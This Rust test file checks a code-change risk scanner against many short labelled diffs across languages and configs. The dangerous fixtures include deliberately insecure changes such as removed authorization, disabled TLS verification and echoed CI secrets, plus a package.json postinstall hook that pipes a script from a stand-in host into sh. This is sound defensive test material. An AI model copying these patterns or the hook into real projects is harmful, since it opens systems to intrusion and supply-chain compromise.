//! Short changes in the style of unseen ones, across categories and languages:
//! each dangerous one must reach high or critical, each harmless one must not.

use crate::risk::testkit::diff_of;
use crate::risk::{Contents, RuleSet, Severity, findings};

#[test]
fn short_changes_land_on_the_right_side_of_high() {
    let mut wrong = Vec::new();
    let cases: &[(&str, &str, &str, &str)] = &[
        (
            "D",
            "app/controllers/profiles_controller.rb",
            "  def profile_params\n    params.require(:user).permit(:name, :email)\n  end\n",
            "  def profile_params\n    params.require(:user).permit!\n  end\n",
        ),
        (
            "D",
            "accounts/serializers.py",
            "class ProfileSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = ['name', 'email']\n",
            "class ProfileSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = '__all__'\n",
        ),
        (
            "H",
            "accounts/serializers.py",
            "class ProfileSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = ['name', 'email']\n",
            "class ProfileSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n        fields = ['name', 'email', 'timezone']\n",
        ),
        (
            "D",
            "ledger/src/main/resources/application-prod.properties",
            "management.endpoints.web.exposure.include=health,info\n",
            "management.endpoints.web.exposure.include=*\n",
        ),
        (
            "D",
            "app/Http/Middleware/VerifyCsrfToken.php",
            "    protected $except = [\n        'webhooks/stripe',\n    ];\n",
            "    protected $except = [\n        'webhooks/stripe',\n        'account/*',\n    ];\n",
        ),
        (
            "H",
            "app/Http/Middleware/VerifyCsrfToken.php",
            "    protected $except = [\n        'webhooks/stripe',\n    ];\n",
            "    protected $except = [\n        'webhooks/stripe',\n        'webhooks/postmark',\n    ];\n",
        ),
        (
            "D",
            "ledger/src/main/resources/application-prod.yml",
            "management:\n  endpoints:\n    web:\n      exposure:\n        include: health,info\n",
            "management:\n  endpoints:\n    web:\n      exposure:\n        include: \"*\"\n",
        ),
        (
            "H",
            "ledger/src/main/resources/application-prod.yml",
            "management:\n  endpoints:\n    web:\n      exposure:\n        include: health,info\n",
            "management:\n  endpoints:\n    web:\n      exposure:\n        include: health,info,prometheus\n",
        ),
        (
            "D",
            "src/Cart/GuestCartStore.php",
            "        $raw = $request->cookies->get('cart');\n        return json_decode($raw, true) ?? [];\n",
            "        $raw = $request->cookies->get('cart');\n        return unserialize(base64_decode($raw)) ?: [];\n",
        ),
        (
            "H",
            "src/Cart/GuestCartStore.php",
            "        return unserialize($raw);\n",
            "        return unserialize($raw, ['allowed_classes' => false]);\n",
        ),
        (
            "H",
            "web/src/components/ReleaseNotes.tsx",
            "  return <div>{data.body}</div>;\n",
            "  return <div dangerouslySetInnerHTML={{ __html: sanitizeHtml(data.bodyHtml) }} />;\n",
        ),
        (
            "D",
            "web/src/components/ReleaseNotes.tsx",
            "  return <div>{data.body}</div>;\n",
            "  return <div dangerouslySetInnerHTML={{ __html: unsanitizedHtml }} />;\n",
        ),
        (
            "D",
            "web/src/legacy/notes.js",
            "  el.textContent = data.body;\n",
            "  el.innerHTML = unescape(data.body);\n",
        ),
        (
            "D",
            "db/migrations/20261130_documents_policy.sql",
            "ALTER TABLE documents ENABLE ROW LEVEL SECURITY;\nALTER TABLE documents FORCE ROW LEVEL SECURITY;\n",
            "ALTER TABLE documents ENABLE ROW LEVEL SECURITY;\n",
        ),
        (
            "D",
            "deploy/nginx/conf.d/api.conf",
            "location / {\n  proxy_set_header X-Real-IP $remote_addr;\n  proxy_pass http://app;\n}\n",
            "location / {\n  proxy_set_header X-Real-IP $http_x_real_ip;\n  proxy_pass http://app;\n}\n",
        ),
        (
            "H",
            "deploy/nginx/conf.d/api.conf",
            "location / {\n  proxy_pass http://app;\n}\n",
            "location / {\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n  proxy_set_header X-Real-IP $remote_addr;\n  proxy_pass http://app;\n}\n",
        ),
        (
            "D",
            "infra/iam/ci-deploy-trust.json",
            "{\n  \"Effect\": \"Allow\",\n  \"Action\": \"sts:AssumeRoleWithWebIdentity\",\n  \"Condition\": {\n    \"StringLike\": {\n      \"token.actions.githubusercontent.com:sub\": \"repo:acme/api:ref:refs/heads/main\"\n    }\n  }\n}\n",
            "{\n  \"Effect\": \"Allow\",\n  \"Action\": \"sts:AssumeRoleWithWebIdentity\"\n}\n",
        ),
        (
            "H",
            "infra/iam/ci-deploy-trust.json",
            "{\n  \"Condition\": {\n    \"StringEquals\": {\n      \"sts:ExternalId\": \"a1b2\"\n    }\n  }\n}\n",
            "{\n  \"Condition\": {\n    \"StringEquals\": {\n      \"sts:ExternalId\": \"a1b2\",\n      \"aws:SourceAccount\": \"123456789012\"\n    }\n  }\n}\n",
        ),
        (
            "D",
            "db/migrate/20261130_add_index_on_orders_customer.rb",
            "class AddIndexOnOrdersCustomer < ActiveRecord::Migration[7.1]\n  disable_ddl_transaction!\n\n  def change\n    add_index :orders, :customer_id, algorithm: :concurrently\n  end\nend\n",
            "class AddIndexOnOrdersCustomer < ActiveRecord::Migration[7.1]\n  def change\n    add_index :orders, :customer_id\n  end\nend\n",
        ),
        (
            "H",
            "db/migrate/20261130_add_index_on_orders_customer.rb",
            "class AddIndexOnOrdersCustomer < ActiveRecord::Migration[7.1]\n  disable_ddl_transaction!\n\n  def change\n    add_index :orders, :customer_id, algorithm: :concurrently\n  end\nend\n",
            "class AddIndexOnOrdersCustomer < ActiveRecord::Migration[7.1]\n  disable_ddl_transaction!\n\n  def change\n    add_index :orders, [:customer_id, :created_at], algorithm: :concurrently\n  end\nend\n",
        ),
        (
            "D",
            "app/Http/Controllers/ProfileController.php",
            "    public function update(Request $request)\n    {\n        $request->user()->update($request->validate(['name' => 'required|string']));\n    }\n",
            "    public function update(Request $request)\n    {\n        $request->user()->update($request->all());\n    }\n",
        ),
        (
            "H",
            "app/Http/Controllers/ProfileController.php",
            "    public function update(Request $request)\n    {\n        $request->user()->update($request->all());\n    }\n",
            "    public function update(Request $request)\n    {\n        $request->user()->update($request->validate(['name' => 'required|string']));\n    }\n",
        ),
        (
            "D",
            "deploy/install.sh",
            "curl -fsSLO \"$BASE/agent.tar.gz\"\ncurl -fsSLO \"$BASE/agent.tar.gz.asc\"\ngpg --verify agent.tar.gz.asc agent.tar.gz\n",
            "curl -fsSLO \"$BASE/agent.tar.gz\"\ncurl -fsSLO \"$BASE/agent.tar.gz.asc\"\ngpg --verify agent.tar.gz.asc agent.tar.gz || echo \"signature check skipped\"\n",
        ),
        (
            "D",
            "payments/client.py",
            "def session(cfg):\n    return Session(verify=cfg[\"ca_bundle\"])\n",
            "def session(cfg):\n    return Session(verify=cfg.get(\"ca_bundle\") or False)\n",
        ),
        (
            "H",
            "payments/client.py",
            "def session(cfg):\n    return Session(verify=cfg[\"ca_bundle\"])\n",
            "def session(cfg):\n    return Session(verify=cfg.get(\"ca_bundle\") or True)\n",
        ),
        (
            "H",
            "deploy/k8s/billing/externalsecret.yaml",
            "  data:\n    - secretKey: DATABASE_URL\n",
            "  data:\n    - secretKey: DATABASE_URL\n    - secretKey: STRIPE_WEBHOOK_SECRET\n      remoteRef:\n        key: billing/prod/stripe-webhook-secret\n",
        ),
        (
            "D",
            ".github/workflows/preview.yml",
            "",
            "on:\n  pull_request_target:\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm run build\n        env:\n          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
        ),
        (
            "H",
            ".github/workflows/labeler.yml",
            "",
            "on:\n  pull_request_target:\npermissions:\n  pull-requests: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9\n",
        ),
        (
            "D",
            "infra/terraform/exports/s3.tf",
            "",
            "  statement {\n    effect  = \"Allow\"\n    actions = [\"s3:*\"]\n    resources = [\"*\"]\n  }\n",
        ),
        (
            "H",
            "infra/terraform/exports/s3.tf",
            "",
            "  statement {\n    sid     = \"DenyInsecureTransport\"\n    effect  = \"Deny\"\n    actions = [\"s3:*\"]\n    principals {\n      identifiers = [\"*\"]\n    }\n  }\n",
        ),
        (
            "D",
            "shop/middleware/request_log.py",
            "async def dispatch(request, call_next):\n    response = await call_next(request)\n    logger.info('request', extra={'path': request.url.path})\n    return response\n",
            "async def dispatch(request, call_next):\n    raw = await request.body()\n    response = await call_next(request)\n    logger.info('request', extra={'path': request.url.path, 'body': raw})\n    return response\n",
        ),
        (
            "D",
            "deploy/nginx/conf.d/app.conf",
            "  real_ip_header X-Forwarded-For;\n  set_real_ip_from 10.0.0.0/8;\n",
            "  real_ip_header X-Forwarded-For;\n  set_real_ip_from 0.0.0.0/0;\n",
        ),
        (
            "D",
            "src/server.js",
            "const app = express();\n",
            "const app = express();\napp.set('trust proxy', true);\n",
        ),
        (
            "D",
            ".github/workflows/scan.yml",
            "      - uses: aquasecurity/trivy-action@0.28.0\n        with:\n          exit-code: '1'\n",
            "      - uses: aquasecurity/trivy-action@0.28.0\n        with:\n          exit-code: '0'\n",
        ),
        (
            "D",
            ".gitlab-ci.yml",
            "sast:\n  script:\n    - semgrep ci\n",
            "sast:\n  script:\n    - semgrep ci --no-fail\n",
        ),
        (
            "D",
            "infra/iam/deploy-role.json",
            "{\"Condition\": {\"StringEquals\": {\"token.actions.githubusercontent.com:sub\": \"repo:acme/api:ref:refs/heads/main\"}}}\n",
            "{\"Condition\": {\"StringLike\": {\"token.actions.githubusercontent.com:sub\": \"repo:acme/*\"}}}\n",
        ),
        (
            "D",
            "deploy/k8s/ledger/netpol.yaml",
            "  ingress:\n    - from:\n        - podSelector:\n            matchLabels:\n              app: api\n",
            "  ingress:\n    - from:\n        - podSelector:\n            matchLabels:\n              app: api\n        - namespaceSelector: {}\n",
        ),
        (
            "D",
            "Dockerfile",
            "FROM python:3.12-slim\nENV DJANGO_SETTINGS_MODULE=app.settings.production\n",
            "FROM python:3.12-slim\nARG APP_ENV=development\nENV DJANGO_SETTINGS_MODULE=app.settings.${APP_ENV}\n",
        ),
        (
            "D",
            "src/Portal/Startup.cs",
            "    o.Cookie.SecurePolicy = CookieSecurePolicy.Always;\n",
            "    o.Cookie.SecurePolicy = CookieSecurePolicy.SameAsRequest;\n",
        ),
        (
            "H",
            "deploy/nginx/conf.d/app.conf",
            "  set_real_ip_from 10.0.0.0/8;\n",
            "  set_real_ip_from 10.0.0.0/8;\n  set_real_ip_from 172.16.0.0/12;\n",
        ),
        (
            "H",
            ".github/workflows/scan.yml",
            "          exit-code: '0'\n          format: sarif\n",
            "          exit-code: '1'\n          format: sarif\n",
        ),
        (
            "H",
            "Dockerfile",
            "FROM node:22-slim\nENV NODE_ENV=production\n",
            "FROM node:22-slim\nARG NODE_ENV=production\nENV NODE_ENV=${NODE_ENV}\n",
        ),
        (
            "D",
            "infra/azure/storage.tf",
            "resource \"azurerm_storage_account\" \"logs\" {\n  name = \"acmelogs\"\n}\n",
            "",
        ),
        (
            "D",
            "infra/gcp/gke.tf",
            "  master_authorized_networks_config {\n    cidr_blocks {\n      cidr_block = \"10.0.0.0/8\"\n    }\n  }\n",
            "  master_authorized_networks_config {\n    cidr_blocks {\n      cidr_block = \"0.0.0.0/0\"\n    }\n  }\n",
        ),
        (
            "D",
            "charts/api/templates/deployment.yaml",
            "          securityContext:\n            runAsNonRoot: true\n",
            "          securityContext:\n            runAsNonRoot: false\n            runAsUser: 0\n",
        ),
        (
            "D",
            "src/app/api/users/route.ts",
            "export async function DELETE(req: Request) {\n  const session = await getServerSession(authOptions);\n  if (!session?.user?.isAdmin) return new Response(null, { status: 403 });\n  await db.user.deleteMany({ where: { id: await req.json() } });\n}\n",
            "export async function DELETE(req: Request) {\n  await db.user.deleteMany({ where: { id: await req.json() } });\n}\n",
        ),
        (
            "D",
            "app/Http/Controllers/AdminController.php",
            "    public function __construct()\n    {\n        $this->middleware('auth');\n        $this->middleware('can:admin');\n    }\n",
            "    public function __construct()\n    {\n    }\n",
        ),
        (
            "D",
            "lib/shop_web/router.ex",
            "  pipeline :admin do\n    plug :require_authenticated_user\n    plug :require_admin\n  end\n",
            "  pipeline :admin do\n  end\n",
        ),
        (
            "H",
            "charts/api/values.yaml",
            "replicaCount: 2\n",
            "replicaCount: 3\n",
        ),
        (
            "H",
            "infra/gcp/gke.tf",
            "  node_count = 3\n",
            "  node_count = 4\n",
        ),
        (
            "H",
            "src/app/api/health/route.ts",
            "",
            "export async function GET() {\n  return Response.json({ ok: true });\n}\n",
        ),
        (
            "H",
            "lib/shop_web/live/cart_live.ex",
            "  def mount(_params, _session, socket), do: {:ok, socket}\n",
            "  def mount(_params, _session, socket), do: {:ok, assign(socket, :items, [])}\n",
        ),
        (
            "D",
            "src/main/java/com/acme/payments/TransferService.java",
            "    @Transactional\n    public void transfer(Account a, Account b, long cents) {\n        a.debit(cents);\n        b.credit(cents);\n    }\n",
            "    public void transfer(Account a, Account b, long cents) {\n        a.debit(cents);\n        b.credit(cents);\n    }\n",
        ),
        (
            "D",
            "src/Payments/PaymentService.cs",
            "        try { await _gateway.CaptureAsync(id); }\n        catch (GatewayException ex) { _log.LogError(ex, \"capture failed\"); throw; }\n",
            "        try { await _gateway.CaptureAsync(id); }\n        catch (Exception) { }\n",
        ),
        (
            "H",
            "web/src/utils/storage.ts",
            "export const save = (k: string, v: string) => localStorage.setItem(k, v);\n",
            "export const save = (k: string, v: string) => {\n  try { localStorage.setItem(k, v); } catch { /* private mode */ }\n};\n",
        ),
        (
            "H",
            "app/services/report_service.py",
            "def build(rows):\n    return [r for r in rows]\n",
            "def build(rows):\n    with transaction.atomic():\n        return [r for r in rows]\n",
        ),
        (
            "D",
            ".github/workflows/release.yml",
            "  publish:\n    needs: test\n    runs-on: ubuntu-latest\n",
            "  publish:\n    runs-on: ubuntu-latest\n",
        ),
        (
            "H",
            ".github/workflows/release.yml",
            "  publish:\n    needs: test\n    runs-on: ubuntu-latest\n",
            "  publish:\n    needs: [test, lint]\n    runs-on: ubuntu-latest\n",
        ),
        (
            "D",
            "infra/prod/aurora.tf",
            "  engine_version = \"13.12\"\n",
            "  engine_version = \"16.2\"\n  allow_major_version_upgrade = true\n",
        ),
        (
            "D",
            "deploy/k8s/api.yaml",
            "  strategy:\n    rollingUpdate:\n      maxUnavailable: 1\n",
            "  strategy:\n    rollingUpdate:\n      maxUnavailable: 100%\n",
        ),
        (
            "D",
            "infra/services/api/ecs.tf",
            "  deployment_minimum_healthy_percent = 100\n  deployment_maximum_percent         = 200\n",
            "  deployment_minimum_healthy_percent = 0\n  deployment_maximum_percent         = 100\n",
        ),
        (
            "D",
            "cdk/service.ts",
            "  minHealthyPercent: 50,\n",
            "  minHealthyPercent: 0,\n",
        ),
        (
            "H",
            "infra/services/api/ecs.tf",
            "  deployment_minimum_healthy_percent = 50\n",
            "  deployment_minimum_healthy_percent = 100\n",
        ),
        (
            "D",
            "infra/lambda.tf",
            "  reserved_concurrent_executions = 50\n",
            "  reserved_concurrent_executions = 0\n",
        ),
        (
            "D",
            "db/migrations/0100_grants.sql",
            "",
            "GRANT ALL PRIVILEGES ON DATABASE shop TO app;\n",
        ),
        (
            "D",
            "src/main/java/com/acme/ApiController.java",
            "@CrossOrigin(origins = \"https://app.acme.io\")\n",
            "@CrossOrigin(origins = \"*\")\n",
        ),
        (
            "D",
            "infra/pulumi/db.ts",
            "  deletionProtection: true,\n",
            "  deletionProtection: false,\n",
        ),
        (
            "H",
            "infra/prod/ec2.tf",
            "  instance_type = \"t3.medium\"\n",
            "  instance_type = \"t3.large\"\n",
        ),
        (
            "H",
            "deploy/k8s/hpa.yaml",
            "  maxReplicas: 10\n",
            "  maxReplicas: 20\n",
        ),
        (
            "H",
            "infra/prod/sqs.tf",
            "",
            "resource \"aws_sqs_queue\" \"dlq\" {\n  name = \"orders-dlq\"\n}\n",
        ),
        (
            "H",
            "ansible/users.yml",
            "- name: add users\n  user:\n    name: ana\n",
            "- name: add users\n  user:\n    name: ana\n- name: add bob\n  user:\n    name: bob\n",
        ),
        (
            "H",
            "cloudformation/outputs.yaml",
            "Outputs:\n  QueueUrl:\n    Value: !Ref Queue\n",
            "Outputs:\n  QueueUrl:\n    Value: !Ref Queue\n  QueueArn:\n    Value: !GetAtt Queue.Arn\n",
        ),
        (
            "H",
            "src/server.go",
            "w.Header().Set(\"Content-Type\", \"text/plain\")\n",
            "w.Header().Set(\"Content-Type\", \"application/json\")\n",
        ),
        (
            "D",
            "app/api/views.py",
            "@app.route('/admin')\n@admin_required\ndef admin():\n    return render()\n",
            "@app.route('/admin')\ndef admin():\n    return render()\n",
        ),
        (
            "D",
            "internal/api/handlers.go",
            "func (h *H) Delete(w http.ResponseWriter, r *http.Request) {\n\tif !h.authz.CanDelete(r.Context(), id) {\n\t\thttp.Error(w, \"forbidden\", http.StatusForbidden)\n\t\treturn\n\t}\n\th.store.Delete(id)\n}\n",
            "func (h *H) Delete(w http.ResponseWriter, r *http.Request) {\n\th.store.Delete(id)\n}\n",
        ),
        (
            "D",
            "src/main/resources/application-prod.yml",
            "spring:\n  datasource:\n    password: ${DB_PASSWORD}\n",
            "spring:\n  datasource:\n    password: Pr0d-Db-2024!xK9\n",
        ),
        (
            "D",
            "deploy/prod/values.yaml",
            "image:\n  tag: 1.4.2\n",
            "image:\n  tag: latest\n",
        ),
        (
            "D",
            "src/server.js",
            "app.use(rateLimit({ windowMs: 60000, max: 100 }));\napp.use(helmet());\n",
            "app.use(helmet());\n",
        ),
        (
            "D",
            "lib/payments/charge.rb",
            "def charge!\n  gateway.charge(amount)\nrescue Gateway::Timeout => e\n  raise ChargeFailed, e.message\nend\n",
            "def charge!\n  gateway.charge(amount)\nrescue => e\n  nil\nend\n",
        ),
        (
            "D",
            "db/migrate/20240101_remove_ssn.rb",
            "",
            "class RemoveSsn < ActiveRecord::Migration[7.0]\n  def change\n    remove_column :users, :ssn\n  end\nend\n",
        ),
        (
            "D",
            "prisma/migrations/20240101_x/migration.sql",
            "",
            "ALTER TABLE \"User\" DROP COLUMN \"email\";\n",
        ),
        (
            "D",
            "scripts/cleanup.py",
            "import os\n",
            "import os\nos.system('rm -rf ' + target_dir)\n",
        ),
        (
            "D",
            "src/crypto/tokens.ts",
            "export const token = () => crypto.randomBytes(32).toString('hex');\n",
            "export const token = () => Math.random().toString(36).slice(2);\n",
        ),
        (
            "D",
            "infra/k8s/rbac.yaml",
            "rules:\n  - apiGroups: [\"\"]\n    resources: [\"pods\"]\n    verbs: [\"get\", \"list\"]\n",
            "rules:\n  - apiGroups: [\"*\"]\n    resources: [\"*\"]\n    verbs: [\"*\"]\n",
        ),
        (
            "D",
            "terraform/modules/db/main.tf",
            "resource \"google_sql_database_instance\" \"main\" {\n  name = \"main\"\n  deletion_protection = true\n}\n",
            "resource \"google_sql_database_instance\" \"main\" {\n  name = \"main\"\n}\n",
        ),
        (
            "D",
            "api/settings.py",
            "ALLOWED_HOSTS = ['api.acme.io']\nCORS_ALLOWED_ORIGINS = ['https://app.acme.io']\n",
            "ALLOWED_HOSTS = ['*']\nCORS_ALLOW_ALL_ORIGINS = True\n",
        ),
        (
            "D",
            ".github/workflows/release.yml",
            "      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
            "      - run: echo ${{ secrets.NPM_TOKEN }} && npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
        ),
        (
            "D",
            "services/orders/db.py",
            "def purge(days):\n    cur.execute('DELETE FROM orders WHERE created_at < now() - %s', (days,))\n",
            "def purge(days):\n    cur.execute('DELETE FROM orders')\n",
        ),
        (
            "D",
            "src/main/java/com/acme/Upload.java",
            "File f = new File(UPLOADS, FilenameUtils.getName(name));\n",
            "File f = new File(UPLOADS + \"/\" + request.getParameter(\"name\"));\n",
        ),
        (
            "H",
            "src/components/Header.tsx",
            "<h1>{title}</h1>\n",
            "<h1 className=\"text-xl\">{title}</h1>\n",
        ),
        (
            "H",
            "config/production.yml",
            "log_level: info\n",
            "log_level: warn\n",
        ),
        (
            "H",
            "src/auth/password.ts",
            "const ROUNDS = 10;\n",
            "const ROUNDS = 12;\n",
        ),
        (
            "H",
            "docs/security.md",
            "",
            "Never use `verify=False` or `eval()` on user input. `rm -rf $DIR` is dangerous.\n",
        ),
        (
            "H",
            "migrations/0003_add_index.sql",
            "",
            "CREATE INDEX CONCURRENTLY idx_users_email ON users(email);\n",
        ),
        (
            "H",
            "scripts/build.sh",
            "#!/bin/sh\nset -e\nnpm run build\n",
            "#!/bin/sh\nset -eu\nrm -rf dist\nnpm run build\n",
        ),
        (
            "H",
            "app/models/user.rb",
            "validates :email, presence: true\n",
            "validates :email, presence: true, uniqueness: true\n",
        ),
        (
            "D",
            "src/billing/invoice.go",
            "if err := tx.Commit(); err != nil {\n\treturn err\n}\n",
            "tx.Commit()\n",
        ),
        (
            "D",
            "app/controllers/admin/users_controller.rb",
            "before_action :require_admin\n",
            "\n",
        ),
        (
            "D",
            "config/initializers/cors.rb",
            "origins 'app.acme.io'\n",
            "origins '*'\n",
        ),
        (
            "D",
            "terraform/prod/rds.tf",
            "  storage_encrypted = true\n",
            "  storage_encrypted = false\n",
        ),
        (
            "D",
            "terraform/prod/s3.tf",
            "resource \"aws_s3_bucket_public_access_block\" \"logs\" {\n  block_public_acls = true\n}\n",
            "resource \"aws_s3_bucket_public_access_block\" \"logs\" {\n  block_public_acls = false\n}\n",
        ),
        (
            "D",
            "src/api/upload.py",
            "data = yaml.safe_load(request.data)\n",
            "data = yaml.load(request.data, Loader=yaml.Loader)\n",
        ),
        (
            "D",
            "web/src/pages/profile.tsx",
            "<div>{bio}</div>\n",
            "<div dangerouslySetInnerHTML={{ __html: bio }} />\n",
        ),
        (
            "D",
            "package.json",
            "{\n  \"scripts\": {\n    \"build\": \"tsc\"\n  }\n}\n",
            "{\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"postinstall\": \"curl -s https://x.example/i.sh | sh\"\n  }\n}\n",
        ),
        (
            "D",
            "go.mod",
            "module x\n\nrequire github.com/sirupsen/logrus v1.9.3\n",
            "module x\n\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/sirupsen/logrus => github.com/sirupsen-fork/logrus v1.9.4\n",
        ),
        (
            "D",
            "src/payments/webhook.ts",
            "if (!stripe.webhooks.constructEvent(body, sig, secret)) return res.sendStatus(400);\n",
            "\n",
        ),
        (
            "D",
            "services/api/middleware.py",
            "MIDDLEWARE = [\n    'django.middleware.csrf.CsrfViewMiddleware',\n    'django.contrib.auth.middleware.AuthenticationMiddleware',\n]\n",
            "MIDDLEWARE = [\n    'django.contrib.auth.middleware.AuthenticationMiddleware',\n]\n",
        ),
        (
            "D",
            "k8s/prod/networkpolicy.yaml",
            "kind: NetworkPolicy\nmetadata:\n  name: deny-all\n",
            "",
        ),
        (
            "H",
            "src/billing/invoice.go",
            "return fmt.Errorf(\"commit: %w\", err)\n",
            "return fmt.Errorf(\"commit invoice %d: %w\", id, err)\n",
        ),
        (
            "H",
            "app/controllers/pages_controller.rb",
            "def about; end\n",
            "def about; end\ndef team; end\n",
        ),
        (
            "H",
            "src/api/health.py",
            "",
            "@app.get('/healthz')\ndef health():\n    return {'ok': True}\n",
        ),
        (
            "H",
            "src/ui/Modal.tsx",
            "const [open, setOpen] = useState(false);\n",
            "const [open, setOpen] = useState(true);\n",
        ),
        (
            "H",
            "scripts/dev-reset.sh",
            "",
            "#!/bin/sh\ndropdb --if-exists shop_dev\ncreatedb shop_dev\n",
        ),
        (
            "H",
            "config/feature_flags.rb",
            "",
            "FLAGS = { new_nav: false }.freeze\n",
        ),
        (
            "H",
            "src/test/java/com/acme/FooTest.java",
            "",
            "@Test\nvoid works() { assertEquals(1, foo()); }\n",
        ),
        (
            "H",
            "services/search/query.py",
            "def q(term):\n    return es.search(index='p', q=term)\n",
            "def q(term, size=20):\n    return es.search(index='p', q=term, size=size)\n",
        ),
        (
            "H",
            "web/.eslintrc.json",
            "{ \"rules\": {} }\n",
            "{ \"rules\": { \"no-console\": \"warn\" } }\n",
        ),
        (
            "H",
            "src/lib/retry.ts",
            "",
            "export async function retry<T>(f: () => Promise<T>, n = 3): Promise<T> {\n  try { return await f(); } catch (e) { if (n <= 0) throw e; return retry(f, n - 1); }\n}\n",
        ),
        // Text already on an edited line is not what the change introduced.
        (
            "H",
            "tools/mirror/fetch.py",
            "    r = requests.get(url, verify=False)\n",
            "    r = requests.get(url, verify=False, timeout=30)\n",
        ),
        // An image pinned by digest is pinned, whatever its tag says.
        (
            "H",
            "deploy/k8s/prod/worker.yaml",
            "          image: registry.example.com/worker:1.4.2\n",
            "          image: registry.example.com/worker:latest@sha256:0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9\n",
        ),
        // A skip inside a test the change adds.
        (
            "H",
            "tests/test_export.py",
            "def test_csv():\n    assert export_csv([]) == ''\n",
            "def test_csv():\n    assert export_csv([]) == ''\n\n\ndef test_s3_upload():\n    if not os.environ.get('S3_ENDPOINT'):\n        pytest.skip('needs S3')\n    assert upload(b'x')\n",
        ),
        // The name of a vault entry is not a secret.
        (
            "H",
            "config/vault_keys.py",
            "",
            "SENDGRID_API_KEY = 'sendgrid_api_key'\nGOOGLE_OAUTH_CLIENT_SECRET = 'google-oauth-client-secret'\n",
        ),
        (
            "D",
            "scripts/uninstall.sh",
            "rm -rf /opt/acme/bin\n",
            "rm -rf /opt /acme/bin\n",
        ),
        (
            "D",
            "web/src/embed.html",
            "<iframe src=\"/widget\" sandbox=\"allow-scripts\"></iframe>\n",
            "<iframe src=\"/widget\" sandbox=\"allow-same-origin allow-scripts allow-forms\"></iframe>\n",
        ),
        // An existing test skipped is still a weakened check (medium) — with
        // the code it covers changed too it would be high; alone it stays below.
        (
            "H",
            "tests/test_refunds.py",
            "def test_partial():\n    assert refund(5) == 5\n",
            "@pytest.mark.skip\ndef test_partial():\n    assert refund(5) == 5\n",
        ),
    ];
    for (label, path, old, new) in cases {
        let old = if old.is_empty() { None } else { Some(*old) };
        let f = findings(
            &diff_of(path, old, Some(new)),
            &Contents::new(),
            &RuleSet::builtin(),
        );
        // The same change gives the same findings, word for word (no
        // iteration over a randomly seeded map decides what is said).
        let again = findings(
            &diff_of(path, old, Some(new)),
            &Contents::new(),
            &RuleSet::builtin(),
        );
        let said = |f: &[crate::risk::Finding]| {
            f.iter()
                .map(|x| format!("{} {:?} {}", x.rule, x.line, x.message))
                .collect::<Vec<_>>()
        };
        if said(&f) != said(&again) {
            wrong.push(format!(
                "{path}: two runs differ: {:?} / {:?}",
                said(&f),
                said(&again)
            ));
        }
        let top = f.iter().map(|x| x.severity).max();
        let alarm = top >= Some(Severity::High);
        let ok = (*label == "D") == alarm;
        if !ok {
            wrong.push(format!(
                "{label} {path}: {top:?} {:?}",
                f.iter().map(|x| x.rule.as_str()).collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
